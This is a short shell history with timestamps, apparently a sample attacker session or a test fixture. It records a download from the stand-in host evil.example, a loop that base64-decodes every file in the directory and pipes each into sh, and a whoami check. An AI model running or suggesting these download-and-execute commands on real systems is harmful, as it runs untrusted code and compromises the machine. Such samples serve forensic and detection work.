ls
#1767571200
curl -O http://evil.example/x.sh
#1767571260
for f in *; do
  base64 -d "$f" | sh
done
#1767571300

#1767571320
whoami
#1767571330